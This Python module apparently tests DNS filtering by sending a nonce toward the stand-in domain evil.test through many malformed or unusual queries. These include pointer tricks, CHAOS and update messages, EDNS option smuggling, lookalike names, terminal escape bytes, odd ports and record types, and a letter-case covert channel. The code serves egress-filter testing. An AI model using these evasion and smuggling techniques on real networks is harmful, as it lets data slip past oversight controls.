"""Questions to name servers that are odd in some way, each with the nonce somewhere in it (RFC 1035, RFC 6891)."""

import os
import socket
import struct

import wire
from reach import SECONDS, attempt, connect

A, SOA, PTR, TXT, OPT, AXFR, ANY = 1, 6, 12, 16, 41, 252, 255
INTERNET, CHAOS, HESIOD = 1, 3, 4
RECURSION, NOTIFY, UPDATE, RESPONSE = 0x0100, 0x2000, 0x2800, 0x8180


def name(*labels):
    """Returns labels of bytes or text as they go over the wire."""
    raw = [label if isinstance(label, bytes) else label.encode() for label in labels]
    return b"".join(bytes([len(label)]) + label for label in raw) + b"\0"


def message(body, flags=RECURSION, counts=(1, 0, 0, 0)):
    """Returns a message with a random id before the body."""
    return os.urandom(2) + struct.pack("!HHHHH", flags, *counts) + body


def question(labels, kind=A, group=INTERNET):
    """Returns what stands in the question section."""
    return name(*labels) + struct.pack("!HH", kind, group)


def record(labels, kind, data, ttl=0):
    """Returns a resource record."""
    return name(*labels) + struct.pack("!HHIH", kind, INTERNET, ttl, len(data)) + data


def with_option(*options):
    """Returns a question for an allowed name with EDNS options, each a code and its data."""
    data = b"".join(struct.pack("!HH", code, len(value)) + value for code, value in options)
    edns = b"\0" + struct.pack("!HHIH", OPT, 1232, 0, len(data)) + data
    return message(question(ALLOWED) + edns, counts=(1, 0, 0, 1))


ALLOWED = ("allowed", "test")
EVIL = ("evil", "test")

VARIANTS = {
    "pointer": lambda n: message(b"\xc0\x12" + struct.pack("!HH", A, INTERNET) + name(n, *EVIL)),
    "loop": lambda n: message(b"\xc0\x0c" + struct.pack("!HH", A, INTERNET) + n.encode()),
    "chaos": lambda n: message(question((n, "version", "bind"), TXT, CHAOS)),
    "hesiod": lambda n: message(question((n, *EVIL), TXT, HESIOD)),
    "any-class": lambda n: message(question((n, *EVIL), A, ANY)),
    "transfer": lambda n: message(question((n, *EVIL), AXFR)),
    "update": lambda n: message(
        question(EVIL, SOA) + record((n, *EVIL), A, b"\0\0\0\0"), UPDATE, counts=(1, 0, 1, 0)
    ),
    "notify": lambda n: message(question((n, *EVIL), SOA), NOTIFY),
    "response": lambda n: message(question((n, *EVIL)), RESPONSE),
    "option": lambda n: with_option((65001, n.encode())),
    "padding": lambda n: with_option((12, n.encode())),
    "cookie": lambda n: with_option((10, n.encode())),
    "subnet": lambda n: with_option((8, b"\0\2\x80\0" + n[:16].encode()), (8, b"\0\2\x20\0" + n[16:].encode())),
    "two": lambda n: message(question(ALLOWED) + question((n, *EVIL)), counts=(2, 0, 0, 0)),
    "trailing": lambda n: message(question(ALLOWED) + n.encode()),
    "records": lambda n: message(question(ALLOWED) + record((n, *EVIL), TXT, b"\1x"), counts=(1, 0, 0, 1)),
    "authority": lambda n: message(question(ALLOWED) + record((n, *EVIL), TXT, b"\1x"), counts=(1, 0, 1, 0)),
    "label-64": lambda n: message(b"\x40" + n.encode().ljust(64, b"x") + question(EVIL)),
    "full": lambda n: message(question((n, "x" * 63, "x" * 63, "x" * 63, "x" * 29, *EVIL))),
    "binary": lambda n: message(question((b"\x1b]0;\x07\n\x80\xff" + n.encode(), *EVIL))),
    "dot": lambda n: message(question((f"{n}.evil.test", *ALLOWED))),
    "idn": lambda n: message(question((n, "\u0430llowed".encode("idna"), "test"))),
    "utf8": lambda n: message(question((n, "\u0430llowed", "test"))),
    "wide-dot": lambda n: message(question((f"{n}.evil\uff0etest\u3002allowed", "test"))),
    "arpa": lambda n: message(question((n, "in-addr", "arpa"), PTR)),
    "arpa6": lambda n: message(question((n, "ip6", "arpa"), PTR)),
    "single": lambda n: message(question((n,))),
    "localhost": lambda n: message(question((n, "localhost"))),
    "in-name": lambda n: message(question((n, "10-99-0-66", "nip", "io"))),
    "docker": lambda n: message(question((n, "host", "docker", "internal"))),
    "local": lambda n: message(question((n, "local"))),
}


def dns_odd(variant, server, nonce, transport="udp"):
    """One question of that variant."""
    query = VARIANTS[variant](nonce)
    with socket.socket(type=socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM) as connection:
        # Some of them must not be answered, so nobody waits for long.
        connection.settimeout(1)
        connection.connect((server, 53))
        connection.send(query if transport == "udp" else struct.pack("!H", len(query)) + query)
        print(connection.recv(4096))


def dns_pipelined(server, nonce):
    """Several questions over one connection, the first of them for an allowed name (RFC 7766)."""
    queries = [message(question(ALLOWED))] + [message(question((f"{nonce}-{n}", *EVIL))) for n in range(3)]
    with connect(server, 53) as connection:
        connection.sendall(b"".join(struct.pack("!H", len(query)) + query for query in queries))
        for _ in queries:
            print(connection.recv(4096))


def dns_bytes(server, nonce):
    """A question over TCP of which each byte comes alone."""
    query = message(question((nonce, *EVIL)))
    with connect(server, 53) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in struct.pack("!H", len(query)) + query:
            connection.send(bytes([byte]))
        print(connection.recv(4096))


def dns_ports(server, nonce, *ports):
    """The same question at ports that other resolvers listen on, in datagrams and over TCP."""
    for port in map(int, ports):
        for transport in ("udp", "tcp"):
            ask = lambda p=port, t=transport: print(wire.ask(server, p, f"{nonce}.evil.test", "A", t, SECONDS))
            attempt(f"{transport} {port}", ask)


def dns_types(server, nonce):
    """Every type there is, and those that aren't."""
    for kind in (*range(1, 110), *range(249, 260), 32768, 32769, 65280, 65535):
        with socket.socket(type=socket.SOCK_DGRAM) as asking:
            asking.settimeout(0.5)
            asking.connect((server, 53))
            asking.send(message(question((f"{nonce}-{kind}", *EVIL), kind)))
            attempt(kind, asking.recv, 4096)


def dns_case(server, nonce):
    """Bits in the case of an allowed name's letters, then a connection by each answer, so that the name is asked for."""
    bits = "".join(f"{byte:08b}" for byte in nonce.encode())
    for at in range(0, len(bits), 10):
        asked = "A" + "".join(
            letter.upper() if bit == "1" else letter for letter, bit in zip("llowedtest", bits[at : at + 10])
        )
        answer = wire.ask(server, 53, f"{asked[:7]}.{asked[7:]}", "A", "udp", SECONDS)
        attempt(asked, visit, socket.inet_ntoa(answer[-4:]))


def visit(host):
    """Asks for a page of the allowed name at that address."""
    with connect(host, 80) as connection:
        connection.sendall(wire.request("GET", "/", "allowed.test"))
        connection.recv(300)
